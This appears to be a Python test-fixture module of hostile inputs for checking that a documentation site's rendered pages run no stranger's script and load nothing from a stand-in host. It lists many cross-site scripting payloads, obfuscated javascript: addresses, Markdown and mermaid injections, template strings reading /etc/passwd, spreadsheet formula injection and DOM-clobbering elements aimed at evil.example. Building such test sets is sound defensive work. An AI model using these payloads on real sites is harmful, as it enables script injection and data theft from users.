"""What a stranger may write to run a script, load from another host, or pose as a part of the site.

Each script calls `alert` with the number of its entry, by which a browser tells which of them ran.
"""

from __future__ import annotations

HOST = "evil.example"
"""The host from which nothing may be loaded; links may lead there, where a reader chooses to follow them."""

VALUES: tuple[str, ...] = (
    # Tags and handlers.
    "<script>alert(101)</script>",
    "<ScRiPt/x>alert(102)</sCrIpT>",
    "<img src=x onerror=alert(103)>",
    "<svg onload=alert(104)>",
    "<svg><animate onbegin=alert(105) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(106)"><text y=9>go</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(107)">go</maction></math>',
    "<details open ontoggle=alert(108)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(109)>",
    "<video><source onerror=alert(110)></video>",
    "<marquee onstart=alert(111)>x</marquee>",
    '<iframe srcdoc="<script>alert(112)</script>"></iframe>',
    f"<iframe src=//{HOST}/113></iframe>",
    '<object data="data:text/html,<script>alert(114)</script>"></object>',
    f"<embed src=//{HOST}/115>",
    f'<meta http-equiv=refresh content="0;url=//{HOST}/116">',
    f"<base href=//{HOST}/117/>",
    f"<link rel=stylesheet href=//{HOST}/118.css>",
    f"<style>@import '//{HOST}/119.css'; body {{ display: none }}</style>",
    f'<form action="//{HOST}/120"><button formaction="javascript:alert(120)">go</button></form>',
    f"<img src=//{HOST}/121.png>",
    # Ways out of an attribute, an element, a script or a comment.
    '"><script>alert(122)</script>',
    "'><script>alert(123)</script>",
    '" onmouseover="alert(124)" x="',
    "' onmouseover='alert(125)' x='",
    "` onmouseover=`alert(126)` x=`",
    " onmouseover=alert(127) ",
    "x onfocus=alert(128) autofocus tabindex=0",
    '\\" onmouseover=\\"alert(129)',
    "</title><script>alert(130)</script>",
    "</script><script>alert(131)</script>",
    "</style><script>alert(132)</script>",
    "</textarea></td></table></div></article><script>alert(133)</script>",
    "</text></svg><script>alert(134)</script>",
    "--><script>alert(135)</script><!--",
    "]]><script>alert(136)</script><![CDATA[",
    "<!--><img src=x onerror=alert(137)>-->",
    "\n\n<script>alert(138)</script>\n\n",
    "&#10;&quot;&gt;&lt;script&gt;alert(139)&lt;/script&gt;",
    # Addresses.
    "javascript:alert(140)",
    "JaVaScRiPt:alert(141)",
    "java\tscript:alert(142)",
    "\u0001javascript:alert(143)",
    " javascript:alert(144)",
    "&#106;avascript:alert(145)",
    "javascript&colon;alert(146)",
    "javascript://x.example/%0aalert(147)",
    "data:text/html,<script>alert(148)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNDkpPC9zY3JpcHQ+",
    "vbscript:alert(150)",
    f"//{HOST}/151",
    f'https://{HOST}/152"onmouseover="alert(152)',
    f"https://{HOST}/153'><svg/onload=alert(153)>",
    "https://javascript:alert(154)@[",
    'mailto:a@b"><script>alert(155)</script>',
    # Languages of templates, of the pages' text, and of pictures.
    "{{ 7*7 }}{% raw %}{{ config.__class__ }}{% include '/etc/passwd' %}{# x",
    "${alert(157)}<%= alert(157) %>#{alert(157)}",
    "**bold** [link](javascript:alert(158)) ![image](javascript:alert(158)) <javascript:alert(158)>",
    f"![pixel](//{HOST}/159.png) ![pixel](https://{HOST}/159.png)",
    f"x; background: url(//{HOST}/160.png); }} * {{ background: url(//{HOST}/160.png)",
    "expression(alert(161)); -moz-binding: url(javascript:alert(161))",
    'graph TD; A[<img src=x onerror=alert(162)>]; click A "javascript:alert(162)"',
    # Places that stand for something in the making of the pages.
    "<!--text--><!--introduction--><script>alert(163)</script>",
    "\ue000content\ue001\ue000title\ue001<script>alert(164)</script>",
    "settled-diagram-00000000000000000000 \x02amp\x03 \x02wzxhzdk:0\x03",
    "kind=flow\nstatus=<script>alert(166)</script>&#10;x=y",
    # What a spreadsheet would calculate.
    '=HYPERLINK("https://evil.example/176")',
    "\r=cmd|' /C calc'!A0",
    "\uff1d1+1",
    # Letters that are not what they seem.
    "\u202ealert(167)\u202c \u2066\u2069 \ufeff \u2028alert(167)\u2029",
    "\uff1cscript\uff1ealert(168)\uff1c/script\uff1e",
    "<\u0000script>alert(169)</script>",
    "\ud7ff\ufffd\U0001f4a3<scr\u0131pt>alert(170)</scr\u0131pt>",
    # Names of parts of the page, and of what scripts look for.
    "__config",
    "constructor",
    "../../index.html",
    "..\\..\\settled\\..",
    "top",
)
"""Values of any field, of any key, and of any name that is shown."""

NAMES: tuple[str, ...] = (
    "<img src=x onerror=alert(201)>",
    '"><svg onload=alert(202)>',
    "' onmouseover='alert(203)",
    'x"onmouseover="alert(204)',
    "javascript:alert(205)",
    "{{ 7*7 }}{% include 'x' %}",
    "a&lt;script&gt;alert(207)&lt;&#47;script&gt;",
    "#x?y=%22%3E%3Cscript%3Ealert(208)",
    "`${alert(209)}`",
    "<!--text-->",
    "[x](javascript:alert(210))",
    "\u202eknil-\u2028-",
)
"""Stems of names of files."""

_FIGURE = "![a](https://x.example/a.png)"

TEXTS: tuple[str, ...] = (
    # HTML as it is written.
    "<script>alert(301)</script>\n\n<SCRIPT SRC=//evil.example/301.js></SCRIPT>",
    "<img src=x onerror=alert(302)> <img src='x' onerror='alert(302)'> <img/src=x/onerror=alert(302)>",
    "<svg onload=alert(303)><script>alert(303)</script><style>*{display:none}</style></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(305)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(306)>'></noscript>",
    (
        "<form id=a action=//evil.example><input name=attributes "
        "autofocus onfocus=alert(307)><button form=a>x</button></form>"
    ),
    "<iframe srcdoc='<script>alert(308)</script>'></iframe><embed src=//evil.example><object data=//evil.example>",
    (
        "<meta http-equiv=refresh content='0;url=//evil.example'>"
        "<base href=//evil.example/><link rel=icon href=//evil.example>"
    ),
    "<style>@import '//evil.example/310.css';</style><p style='background:url(//evil.example/310.png)'>styled</p>",
    '<table background="//evil.example/311.png"><tr><td background=//evil.example/311.png style="text-align:left;'
    'background:url(//evil.example/311.png)">cell</td></tr></table>',
    (
        "<video src=//evil.example/312 poster=//evil.example/312.png "
        "autoplay></video><audio src=//evil.example/312 autoplay></audio>"
    ),
    (
        '<img srcset="//evil.example/313.png 1x"><picture><source '
        "srcset=//evil.example/313.png></picture><input type=image src=//evil.example/313.png>"
    ),
    "<details open ontoggle=alert(314)><summary onclick=alert(314)>more</summary>x</details>",
    "<a href='//evil.example' onclick=alert(315) ping=//evil.example/315 download target=_top>out</a>",
    "<div contenteditable onfocus=alert(316) tabindex=0 accesskey=x>edit</div> <p popover id=pop>x</p>",
    "<!-- <script>alert(317)</script> --> <!--><script>alert(317)</script>--> <!--text--><!--introduction-->",
    "<![CDATA[<script>alert(318)</script>]]> <?php alert(318) ?> <!DOCTYPE x> <script\n>alert(318)</script\n>",
    "</div></article></main></title></style></script></textarea></noscript><script>alert(319)</script>",
    "<plaintext><xmp><script>alert(320)</script>",
    "<textarea><script>alert(321)</script>",
    # Images and links on another host, behind what a browser takes away.
    '<img src=" https://evil.example/330.png" alt="space">',
    '<img src="&#9;//evil.example/331.png" alt="tab">',
    '<img src="/&#9;/evil.example/332.png" alt="tab between">',
    '<img src="&#1;https://evil.example/333.png" alt="control">',
    '<img src="&#10;//evil.example/334.png"> <img src="h&#10;ttps://evil.example/334.png">',
    (
        '<img src="\\\\evil.example/335.png"> <img '
        'src="/\\evil.example/335.png"> <img src="https:\\\\evil.example/335.png">'
    ),
    (
        '<img src="https:evil.example/336.png"> <img '
        'src="http:///evil.example/336.png"> <img src="ftp://evil.example/336">'
    ),
    (
        '<a href="java&#9;script:alert(337)">a</a> <a '
        'href="&#1;javascript:alert(337)">a</a> <a href=" javascript:alert(337)">a</a>'
    ),
    (
        '<a href="&#106;&#x61;vascript&colon;alert(338)">a</a> <a '
        'href="JAVASCRIPT:alert(338)">a</a> <a href="data:text/html,x">a</a>'
    ),
    # Every construct of Markdown.
    (
        "[a](javascript:alert(340)) [b](<javascript:alert(340)>) "
        "[c](java%0ascript:alert(340)) [d](&#106;avascript:alert(340))"
    ),
    "[a][ref] ![a][ref] [ref]\n\n[ref]: javascript:alert(341) 'onmouseover=\"alert(341)\"'",
    '<javascript:alert(342)> <data:text/html,x> <vbscript:x> <//evil.example/342> <mailto:a@b"onclick="alert(342)>',
    '![a](x "t\\" onerror=\\"alert(343)") [a](x "\'><img src=x onerror=alert(343)>") ![x" onerror="alert(343)](y)',
    (
        f"![a](//evil.example/344.png) {_FIGURE} ![a](  "
        f"https://evil.example/344.png) ![a](<\thttps://evil.example/344.png>)"
    ),
    "`<script>alert(345)</script>` ``` <img src=x onerror=alert(345)> ```\n\n    <script>alert(345)</script>",
    (
        "```html\n<script>alert(346)</script>\n```\n\n~~~{.x onclick=alert(346) "
        "#__config}\n</code></pre><script>alert(346)</script>\n~~~"
    ),
    '```{.python title="<img src=x onerror=alert(347)>" hl_lines="1" linenums="1"}\nx\n```',
    (
        '```mermaid\ngraph TD; A["<img src=x onerror=alert(348)>"]-->B; '
        'click A "javascript:alert(348)"; click B href "//evil.example"\n```'
    ),
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': "
    "'*{background:url(//evil.example/349.png)}'}}%%\ngraph TD\n"
    'A["<iframe src=//evil.example></iframe>"]\n```',
    (
        'A paragraph.\n{: onclick="alert(350)" style="position:fixed;inset:0" '
        'class="md-overlay st-chip mermaid" #__search }'
    ),
    "## <img src=x onerror=alert(351)> { onclick=alert(351) }",
    "## A heading {: id='x\"><img src=x onerror=alert(352)>' }",
    (
        '## Another heading {: id=\'y" onfocus="alert(353)" '
        "autofocus=\"' data-toc-label='<img src=x onerror=alert(353)>' }"
    ),
    "## __config\n\n## __search {: #__search }\n\n## Drawer {: #__drawer }\n\n## Hidden {: #st-hidden }",
    (
        "## History\n\n## Risks\n\n## Findings\n\n## Failure modes\n\n## "
        "Statement\n\n## Acceptance\n\n## Actions\n\n## Exposure"
    ),
    (
        "## Decision source {: #decision-source }\n\n<a id=top></a><p "
        "id=history>posing</p><p id=picture></p><a name=history></a>"
    ),
    (
        "Text[^1] and[^<script>alert(356)</script>].\n\n[^1]: <img src=x "
        "onerror=alert(356)> [a](javascript:alert(356))\n\n[^<script>alert(356)</script>]: x"
    ),
    '!!! note "<img src=x onerror=alert(357)>"\n    <script>alert(357)</script>\n\n??? x" "y onclick=alert(357)\n    z',
    "Term <script>alert(358)</script>\n:   <img src=x onerror=alert(358)>",
    "- [x] <script>alert(359)</script>\n- [ ] <img src=x onerror=alert(359)>\n\n> <script>alert(359)</script>",
    "| <script>alert(360)</script> | b |\n|:-:|--|\n| <img src=x onerror=alert(360)> | [a](javascript:alert(360)) |",
    "{{ 7*7 }} {% include '/etc/passwd' %} {{ config }} ${alert(361)} \ue000content\ue001 \ue000title\ue001",
    '*[HTML]: <script>alert(362)</script>\n\nHTML :fontawesome-solid-x: --8<-- "/etc/passwd" ++ctrl++ ==x== ~~x~~',
    # Parts of ours and of the theme, and what scripts look for by name.
    '<div data-md-component="search" data-md-toggle=search class="md-search md-dialog" role=dialog>posing</div>',
    (
        '<form class="st-filter" data-noun=x><input name=find></form>'
        '<table class="st-table st-filtered"><thead><tr><th>x</table>'
    ),
    '<p id="__config">{"base": "//evil.example", "search": "//evil.example/worker.js", "features": []}</p>',
    (
        "<img name=body><img name=getElementById><a id=document "
        "href=//evil.example></a><a id=location></a><form name=config></form>"
    ),
    (
        "<p id=mermaid></p><p id=Worker></p><a id=settled-diagram-0>"
        "</a><pre class='settled-diagram'><code>graph TD; A</code></pre>"
    ),
    (
        '<div class="mermaid">graph TD; A["<img src=x onerror=alert(375)>'
        '"]</div><pre class="mermaid"><code>graph TD</code></pre>'
    ),
    (
        '<label for="__drawer">open</label><button data-zoom=in>'
        'x</button><a class="headerlink md-button" href="#history">x</a>'
    ),
)
"""Texts of records and of introductions, each a block of its own."""
